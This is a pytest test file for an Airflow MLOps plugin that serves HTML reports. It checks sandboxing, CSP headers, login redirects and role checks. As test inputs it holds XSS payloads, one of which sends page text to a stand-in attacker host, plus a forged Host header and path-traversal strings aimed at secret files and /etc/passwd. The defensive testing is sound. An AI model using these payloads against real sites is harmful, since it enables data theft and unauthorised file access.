from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pyarrow as pa
import pytest
from airflow.api_fastapi.app import create_auth_manager
from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
from airflow.api_fastapi.core_api.security import get_user, is_safe_url
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient

from airflow_mlops import config
from airflow_mlops.domain.spec.model import Expectation
from airflow_mlops.plugin.pages import create_app
from airflow_mlops.stages.validate import validate

PAGE = "<html><script>1</script></html>"
ADDRESS = "/reports/flights/2013-01/drift.html"
# What a browser asks for when somebody clicks a link.
CLICK = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    create_auth_manager()
    reports = tmp_path / "reports"
    (reports / "flights" / "2013-01").mkdir(parents=True)
    (reports / "flights" / "2013-01" / "drift.html").write_text(PAGE)
    (tmp_path / "secret.html").write_text("not for you")
    monkeypatch.setenv("AIRFLOW__MLOPS__REPORTS", f"file://{reports}")
    config.reports.cache_clear()
    yield reports
    config.reports.cache_clear()


def client(role: str | None = "viewer", *, known: bool = True) -> TestClient:
    """A browser of somebody with a role in Airflow, or of a stranger."""
    app = create_app()
    if known:
        app.dependency_overrides[get_user] = lambda: SimpleAuthManagerUser(username="ada", role=role)
    return TestClient(app, raise_server_exceptions=False)


class Elements(HTMLParser):
    """The start tags of a page, with their attributes as a browser reads them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def policy_of(answer: Any) -> dict[str, str]:
    policy = answer.headers["content-security-policy"]
    return dict(part.strip().partition(" ")[::2] for part in policy.split(";"))


def own_page(folder: Path, kind: str, text: str) -> Any:
    (folder / "flights" / "2013-01" / f"{kind}.html").write_text(text)
    return client().get(f"/reports/flights/2013-01/{kind}.html")


@pytest.mark.parametrize("kind", ["validation", "data-docs", "model_card", "of_your_own"])
def test_a_page_of_ours_is_shown_as_it_was_written_and_may_run_nothing(folder: Path, kind: str) -> None:
    answer = own_page(folder, kind, PAGE)
    assert (answer.status_code, answer.text) == (200, PAGE)
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    policy = policy_of(answer)
    # Without allow-scripts a browser runs no script, no handler, no javascript: link, and follows no meta refresh.
    assert policy["sandbox"] == "allow-downloads"
    assert "script-src" not in policy
    assert policy["default-src"] == "'none'"


@pytest.mark.parametrize(
    "page",
    [
        PAGE,
        '"></iframe><script>location = "https://evil.example.com/?" + document.body.innerText</script>',
        "'><meta http-equiv=refresh content='0; url=https://evil.example.com/?rows'>",
        "&quot;&gt;<script>top.location = 1</script>",
    ],
)
def test_a_report_with_scripts_is_shown_in_a_frame_that_it_cannot_leave(folder: Path, page: str) -> None:
    answer = own_page(folder, "drift", page)
    assert answer.status_code == 200
    tags = Elements(answer.text).tags
    assert [tag for tag, _ in tags] == ["html", "head", "meta", "title", "style", "body", "iframe"]
    frame = tags[-1][1]
    assert frame["srcdoc"] == page, "as it was written"
    # No allow-top-navigation, no allow-popups: neither this tab nor another one goes where its scripts want.
    assert frame["sandbox"] == "allow-scripts allow-downloads"
    # Nor does the frame itself: each address is refused by the page around it, and by what the frame inherits from it.
    assert policy_of(answer)["frame-src"] == "'none'"


def test_scripts_in_a_report_cannot_reach_airflow_or_the_network() -> None:
    answer = client().get(ADDRESS)
    policy = policy_of(answer)
    assert policy["sandbox"] == "allow-scripts allow-downloads"  # no allow-same-origin: no cookies, no API
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == "'unsafe-inline'"
    assert policy["form-action"] == policy["base-uri"] == "'none'"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-dns-prefetch-control"] == "off"
    assert answer.headers["cross-origin-opener-policy"] == "same-origin"


def test_pages_of_a_validation_hold_no_script_that_would_be_missed() -> None:
    rule = Expectation.from_dict({"expect_column_values_to_be_unique": {"column": "x"}})
    report = validate.frame(pa.table({"x": ["<script>1</script>"] * 2}), [rule], name="flights")
    for page in (str(report.docs), report.html):
        tags = Elements(page).tags
        assert "script" not in {tag for tag, _ in tags}
        assert not [name for _, attributes in tags for name in attributes if name.startswith("on")]


def test_every_route_is_closed_to_strangers_and_to_users_without_a_role() -> None:
    routes = [route.path for route in create_app().routes if isinstance(route, APIRoute)]
    assert routes
    assert len(routes) == len(create_app().routes)  # nothing else is served, not even the documentation
    for path in routes:
        address = path.format(model="flights", partition="2013-01", kind="drift")
        assert client(known=False).get(address).status_code == 401
        assert client(known=False).get(address, headers={"Authorization": "Bearer x"}).status_code in (
            401,
            403,
        )
        assert client(role=None).get(address).status_code == 403


@pytest.mark.parametrize("base", ["", "/team/airflow"])
def test_a_click_of_somebody_who_is_not_logged_in_leads_to_the_login_and_back(
    base: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AIRFLOW__API__BASE_URL", f"https://airflow.example.com{base}")
    airflow = FastAPI(root_path=base)
    airflow.mount("/mlops", create_app())
    browser = TestClient(airflow, headers=CLICK | {"Host": "evil.example.com"}, follow_redirects=False)
    answer = browser.get(f"{base}/mlops{ADDRESS}")
    assert (answer.status_code, answer.headers["cache-control"]) == (303, "no-store")
    login = urlsplit(answer.headers["location"])
    # No host: a forged one cannot lead anywhere else, and each auth manager has its login behind this path.
    assert login[:3] == ("", "", f"{base}/api/v2/auth/login")
    (page,) = parse_qs(login.query)["next"]
    assert page == f"{base}/mlops{ADDRESS}"
    assert is_safe_url(page), "Airflow refuses any other"


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 401),
        ({"Accept": "application/json"}, 401),
        (CLICK | {"Authorization": "Bearer x"}, 403),
    ],
)
def test_a_program_that_is_not_logged_in_is_answered_as_json(headers: dict[str, str], status: int) -> None:
    answer = client(known=False).get(ADDRESS, headers=headers, follow_redirects=False)
    assert (answer.status_code, answer.headers["content-type"]) == (status, "application/json")


def test_a_session_that_airflow_has_forgotten_leads_to_the_login() -> None:
    browser = client(known=False)
    browser.cookies.set("_token", "of-another-day")
    assert browser.get(ADDRESS, headers=CLICK, follow_redirects=False).status_code == 303


def test_who_may_not_see_reports_is_told_so_and_not_sent_round_in_circles() -> None:
    answer = client(role=None).get(ADDRESS, headers=CLICK, follow_redirects=False)
    assert (answer.status_code, answer.json()) == (403, {"detail": "Forbidden"})
    assert client().get(ADDRESS.replace("drift", "none"), headers=CLICK).status_code == 404


@pytest.mark.parametrize(
    "address",
    [
        "/reports/flights/2013-01/none.html",
        "/reports/none/2013-01/drift.html",
        "/reports/flights/../secret.html",
        "/reports/flights/%2e%2e/secret.html",
        "/reports/%2e%2e/%2e%2e/secret.html",
        "/reports/flights/2013-01/..%2f..%2f..%2fsecret.html",
        "/reports/flights/2013-01/..%5csecret.html",
        "/reports//etc/passwd.html",
        "/reports/flights/2013-01/%00.html",
        "/reports/file:/x/drift.html",
        "/reports/.hidden/2013-01/drift.html",
    ],
)
def test_nothing_but_reports_is_served(address: str) -> None:
    answer = client().get(address)
    assert answer.status_code in (404, 422)
    assert "not for you" not in answer.text


def test_a_link_out_of_the_folder_is_not_followed(folder: Path) -> None:
    (folder / "flights" / "2013-01" / "out.html").symlink_to(folder.parent / "secret.html")
    assert client().get("/reports/flights/2013-01/out.html").status_code == 404


def test_a_folder_with_the_name_of_a_report_is_not_a_report(folder: Path) -> None:
    (folder / "flights" / "2013-01" / "folder.html").mkdir()
    assert client().get("/reports/flights/2013-01/folder.html").status_code == 404


def test_data_docs_are_shown_without_any_script_and_need_no_network(folder: Path) -> None:
    rule = Expectation.from_dict({"expect_column_values_to_be_unique": {"column": "x"}})
    found = validate.frame(pa.table({"x": ["<script>1</script>"] * 2}), [rule], name="flights")
    (folder / "flights" / "2013-01" / "data-docs.html").write_text(str(found.docs), encoding="utf-8")
    answer = client().get("/reports/flights/2013-01/data-docs.html")
    assert (answer.status_code, "Data Docs of flights latest" in answer.text) == (200, True)
    assert not re.search(r"<script|https?:|@import|url\(|javascript:| on\w+=", answer.text)
